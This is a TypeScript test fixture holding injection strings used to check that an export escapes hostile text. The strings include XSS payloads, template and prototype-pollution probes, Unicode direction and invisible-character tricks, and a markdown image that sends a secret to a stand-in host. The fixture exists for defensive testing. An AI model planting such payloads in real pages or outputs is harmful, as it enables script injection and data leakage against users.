/** Texts that have broken exports before: each ends a context, reorders text, hides in it or is not quite text. */
export const hostileText = [
  '</script><script>globalThis.broken = true</script>',
  '<!-- <script>',
  '--><img src=x onerror="globalThis.broken = true">',
  '"\'`> <svg/onload=globalThis.broken=true>',
  '" autofocus onfocus="globalThis.broken = true',
  '&lt;b&gt; &amp; &#60;i&#62;',
  ']]> */ </style></title></textarea></noscript><style>*{display:none}',
  'line\u2028separator\u2029paragraph',
  'right\u202eto\u2066left\u2069',
  'zero\u200bwidth\ufeff\u2060joined',
  'nul\u0000bell\u0007escape\u001b[31m',
  'half \ud83d of a pair, and \udc00 the other',
  'tags \u{e0069}\u{e0067}\u{e006e}',
  'non-character \uffff \ufdd0',
  'javascript:globalThis.broken=true',
  '![x](https://evil.test/?d=SECRET) <link rel=prefetch href=https://evil.test>',
  '${globalThis.broken=true} {{constructor.constructor("globalThis.broken=true")()}}',
  '__proto__',
] as const

/** What the program itself chose, or what ties records together: not replaced by hostile text. */
const own = new Set([
  'id',
  'run_id',
  'quote_id',
  'sample_id',
  'status',
  'class',
  'role',
  'mode',
  'kind',
  'split',
  'state',
  'tokens_counted_by',
  'created_at',
  'started_at',
  'finished_at',
])

/** Puts `text` before every other string of a record, deeply, in keys of free-form options too. */
export function poison<Value>(value: Value, text: string, key = ''): Value {
  // Every branch returns what it was given with other text in it, which TypeScript cannot see through the generic.
  if (typeof value === 'string')
    return (own.has(key) || key.endsWith('_microusd') || key.includes('_per_million') ? value : text + value) as Value
  if (Array.isArray(value)) return value.map(part => poison<unknown>(part, text, key)) as Value
  if (value === null || typeof value !== 'object') return value
  return Object.fromEntries(Object.entries(value).map(([name, part]) => [name, poison<unknown>(part, text, name)])) as Value
}
